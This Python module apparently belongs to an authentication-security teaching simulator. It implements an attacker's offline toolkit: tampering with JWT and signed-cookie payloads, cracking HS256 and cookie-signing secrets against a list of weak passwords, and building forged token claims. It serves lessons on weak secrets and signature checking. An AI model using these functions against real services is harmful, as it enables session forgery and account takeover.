"""The attacker's offline toolkit: tokens and cookies edited, forged, or cracked.

Pure functions on text; whether what they make works is up to the server's own checks.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from collections.abc import Mapping
from typing import Any

from itsdangerous import BadSignature

from authflow.simulator.server.auth_session import session_signer

WEAK_SECRETS: tuple[str, ...] = (
    # What offline crackers try first: defaults from tutorials and frameworks, and the
    # usual suspects. A lesson's `secret` setting decides whether one of them is right.
    "secret",
    "your-256-bit-secret",
    "password",
    "changeme",
    "123456",
    "secretkey",
    "mysecret",
    "supersecret",
    "jwt-secret",
    "jwt_secret",
    "key",
    "admin",
    "letmein",
    "qwerty",
    "s3cr3t",
    "default",
)
"""The attacker's guess list for a weak HS256 / cookie-signing secret."""


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64url_decode(segment: str) -> bytes:
    return base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4))


def json_segment(value: Mapping[str, Any]) -> str:
    return b64url(json.dumps(value, separators=(",", ":")).encode("utf-8"))


def hs256_sign(signing_input: str, secret: str) -> str:
    mac = hmac.new(secret.encode("utf-8"), signing_input.encode("ascii"), hashlib.sha256)
    return b64url(mac.digest())


def tamper_jwt(token: str, claim: str, value: str) -> str:
    """Change one payload claim and keep the old signature."""
    parts = token.split(".")
    if len(parts) != 3:
        return token
    try:
        payload = json.loads(b64url_decode(parts[1]))
    except ValueError:
        return token
    payload[claim] = value
    return ".".join((parts[0], json_segment(payload), parts[2]))


def tamper_sid(signed: str) -> str:
    """Change the session id inside a signed sid cookie and keep the old signature."""
    sid, sep, sig = signed.rpartition(".")
    if not sep or not sid:
        return signed[:-1] + ("0" if signed[-1:] != "0" else "1")
    last = "0" if sid[-1] != "0" else "1"
    return f"{sid[:-1]}{last}.{sig}"


def crack_jwt(token: str) -> tuple[str | None, int]:
    """Try each weak secret against an HS256 token offline: (secret or None, guesses tried)."""
    parts = token.split(".")
    if len(parts) != 3:
        return None, 0
    try:
        alg = json.loads(b64url_decode(parts[0])).get("alg")
    except ValueError:
        return None, 0
    if alg != "HS256":
        return None, 0
    signing_input = f"{parts[0]}.{parts[1]}"
    for i, guess in enumerate(WEAK_SECRETS, start=1):
        if hmac.compare_digest(hs256_sign(signing_input, guess), parts[2]):
            return guess, i
    return None, len(WEAK_SECRETS)


def crack_sid(signed: str) -> tuple[str | None, int]:
    for i, guess in enumerate(WEAK_SECRETS, start=1):
        try:
            session_signer(guess).unsign(signed)
        except BadSignature:
            continue
        return guess, i
    return None, len(WEAK_SECRETS)


def forged_claims(
    user: str, role: str, now: int, jti: str, issuer: str, audience: str
) -> dict[str, Any]:
    """The claims of a token the attacker makes up: an hour's life from `now`, with the
    issuer and audience every genuine token shows (anyone can read them off one)."""
    return {
        "iss": issuer,
        "sub": user,
        "aud": audience,
        "role": role,
        "iat": now,
        "exp": now + 3600,
        "jti": jti,
    }
